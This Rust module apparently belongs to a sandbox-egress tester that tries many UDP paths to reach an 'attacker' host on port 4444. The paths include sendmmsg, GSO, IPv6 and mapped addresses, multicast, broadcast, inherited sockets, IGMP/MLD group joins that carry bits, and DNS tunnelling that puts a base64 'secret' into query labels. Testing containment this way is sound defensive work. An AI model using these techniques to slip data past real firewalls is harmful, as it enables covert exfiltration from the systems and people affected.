//! UDP in every spelling, and what else a datagram socket can put on the wire.

use std::net::{Ipv4Addr, Ipv6Addr};

use crate::sys::{Fd, check, in4, in6, in6_on, outward_link, receive, send, setsockopt, socket};
use crate::{Attempt, BANNER, Targets, Verdict};

const ANSWER_MS: i32 = 250;
pub(crate) const PORT: u16 = 4444;
const IPPROTO_UDPLITE: i32 = 136;
const SOL_UDP: i32 = 17;
const UDP_SEGMENT: i32 = 103;
/// Reports are sent after a random delay of up to a second.
const REPORT_DELAY: std::time::Duration = std::time::Duration::from_millis(1300);

pub(crate) fn connect(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    crate::sys::connect(&fd, &in4(to.v4()?, PORT))?;
    send(fd.0, &to.payload("hello"))?;
    sent(&fd)
}

pub(crate) fn sendto(to: &Targets) -> Attempt {
    to4(to, PORT, &to.payload("hello"))
}

pub(crate) fn sendmmsg(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    let mut address = in4(to.v4()?, PORT);
    let mut data = to.payload("hello");
    let mut iov = libc::iovec { iov_base: data.as_mut_ptr().cast(), iov_len: data.len() };
    // SAFETY: all-zero is a valid message header.
    let mut messages: [libc::mmsghdr; 2] = unsafe { std::mem::zeroed() };
    for message in &mut messages {
        message.msg_hdr.msg_name = (&raw mut address).cast();
        message.msg_hdr.msg_namelen = size_of_val(&address) as u32;
        message.msg_hdr.msg_iov = &raw mut iov;
        message.msg_hdr.msg_iovlen = 1;
    }
    // SAFETY: two headers, whose name and vector outlive the call.
    check("sendmmsg", unsafe { libc::sendmmsg(fd.0, messages.as_mut_ptr(), 2, 0) })?;
    sent(&fd)
}

/// One call, several packets.
pub(crate) fn gso(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    setsockopt(&fd, SOL_UDP, UDP_SEGMENT, &100i32)?;
    let mut data = to.payload("hello");
    data.resize(500, b'x');
    crate::sys::sendto(&fd, &data, 0, &in4(to.v4()?, PORT))?;
    sent(&fd)
}

pub(crate) fn udp6(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET6)?;
    crate::sys::sendto(&fd, &to.payload("hello"), 0, &in6(to.v6()?, PORT))?;
    sent(&fd)
}

pub(crate) fn mapped(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET6)?;
    crate::sys::sendto(&fd, &to.payload("hello"), 0, &in6(to.v4()?.to_ipv6_mapped(), PORT))?;
    sent(&fd)
}

pub(crate) fn link_local(to: &Targets) -> Attempt {
    let (_, index) = outward_link()?;
    let fd = udp(libc::AF_INET6)?;
    crate::sys::sendto(&fd, &to.payload("hello"), 0, &in6_on(to.parsed("ll6")?, PORT, index))?;
    sent(&fd)
}

/// The family says nothing, the address is IPv4 all the same.
pub(crate) fn unspec(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    let mut address = in4(to.v4()?, PORT);
    address.sin_family = libc::AF_UNSPEC as u16;
    crate::sys::sendto(&fd, &to.payload("hello"), 0, &address)?;
    sent(&fd)
}

pub(crate) fn udplite(to: &Targets) -> Attempt {
    let fd = socket(libc::AF_INET, libc::SOCK_DGRAM, IPPROTO_UDPLITE)?;
    crate::sys::sendto(&fd, &to.payload("hello"), 0, &in4(to.v4()?, PORT))?;
    sent(&fd)
}

/// A long-header packet of the size that QUIC asks of a client's first.
pub(crate) fn quic(to: &Targets) -> Attempt {
    let mut initial = vec![0u8; 1200];
    initial[..7].copy_from_slice(&[0xc3, 0, 0, 0, 1, 8, 7]);
    to4(to, 443, &initial)
}

pub(crate) fn doq(to: &Targets) -> Attempt {
    let mut initial = vec![0u8; 1200];
    initial[..7].copy_from_slice(&[0xc3, 0, 0, 0, 1, 8, 7]);
    to4(to, 853, &initial)
}

/// Data in a label, for a zone whose server is the attacker's.
pub(crate) fn dns_tunnel(to: &Targets) -> Attempt {
    let mut heard = String::new();
    for kind in [16u8, 1] {
        let fd = udp(libc::AF_INET)?;
        let mut query = vec![0x13, kind, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in [format!("c2VjcmV0-{}-{kind}", std::process::id()).as_str(), "tunnel", "test"] {
            query.push(label.len() as u8);
            query.extend(label.bytes());
        }
        query.extend([0, 0, kind, 0, 1]);
        crate::sys::sendto(&fd, &query, 0, &in4(to.v4()?, 53))?;
        let reply = receive(fd.0, ANSWER_MS);
        // Success with at least one answer: a refusal by name is no way out.
        if reply.len() > 12 && reply[3] & 15 == 0 && reply[7] > 0 {
            return Ok(Verdict::Out(format!(
                "an answer of {} bytes to a question of type {kind}",
                reply.len()
            )));
        }
        heard.push_str(&format!(" type {kind}: {:?};", reply.get(2..8)));
    }
    Ok(Verdict::Refused(format!("no answer through names:{heard}")))
}

pub(crate) fn multicast(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    crate::sys::sendto(&fd, &to.payload("hello"), 0, &in4(Ipv4Addr::new(239, 1, 2, 3), 5000))?;
    sent(&fd)
}

pub(crate) fn multicast6(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET6)?;
    // Without an interface of its choice the kernel takes the one of a route.
    let index = outward_link().map_or(1, |(_, index)| index);
    setsockopt(&fd, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_IF, &index)?;
    let group = Ipv6Addr::new(0xff15, 0, 0, 0, 0, 0, 0, 0xabcd);
    crate::sys::sendto(&fd, &to.payload("hello"), 0, &in6(group, 5000))?;
    sent(&fd)
}

pub(crate) fn broadcast(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    setsockopt(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, &1i32)?;
    crate::sys::sendto(&fd, &to.payload("hello"), 0, &in4(Ipv4Addr::BROADCAST, 5000))?;
    sent(&fd)
}

/// The group's address carries the bits.
pub(crate) fn igmp_join(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    let address: Ipv4Addr = to.parsed("group4")?;
    let group = libc::ip_mreqn {
        imr_multiaddr: libc::in_addr { s_addr: u32::from(address).to_be() },
        imr_address: libc::in_addr { s_addr: 0 },
        imr_ifindex: 0,
    };
    setsockopt(&fd, libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, &group)?;
    std::thread::sleep(REPORT_DELAY);
    Ok(Verdict::Out(format!("joined {address}")))
}

pub(crate) fn mld_join(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET6)?;
    let address: Ipv6Addr = to.parsed("group6")?;
    let group = libc::ipv6_mreq {
        ipv6mr_multiaddr: libc::in6_addr { s6_addr: address.octets() },
        ipv6mr_interface: 0,
    };
    setsockopt(&fd, libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, &group)?;
    std::thread::sleep(REPORT_DELAY);
    Ok(Verdict::Out(format!("joined {address}")))
}

pub(crate) fn so_mark(to: &Targets) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    setsockopt(&fd, libc::SOL_SOCKET, libc::SO_MARK, &0x1234i32)?;
    crate::sys::sendto(&fd, &to.payload("marked"), 0, &in4(to.v4()?, PORT))?;
    sent(&fd)
}

/// The caller left a connected socket open as descriptor 7.
pub(crate) fn inherited_fd(to: &Targets) -> Attempt {
    send(7, &to.payload("inherited"))?;
    Ok(Verdict::Out("sent on descriptor 7".to_owned()))
}

/// The caller's standard input is a connected socket.
pub(crate) fn inherited_stdin(to: &Targets) -> Attempt {
    send(0, &to.payload("inherited"))?;
    Ok(Verdict::Out("sent on descriptor 0".to_owned()))
}

pub(crate) fn udp(family: i32) -> Result<Fd, Verdict> {
    socket(family, libc::SOCK_DGRAM, 0)
}

fn to4(to: &Targets, port: u16, data: &[u8]) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    crate::sys::sendto(&fd, data, 0, &in4(to.v4()?, port))?;
    sent(&fd)
}

/// The kernel took it. Whether it left is for the counter to say.
pub(crate) fn sent(fd: &Fd) -> Attempt {
    let reply = receive(fd.0, ANSWER_MS);
    if String::from_utf8_lossy(&reply).contains(BANNER) {
        Ok(Verdict::Out("heard the attacker".to_owned()))
    } else {
        Ok(Verdict::Silent(format!("the kernel took it, heard {} bytes", reply.len())))
    }
}
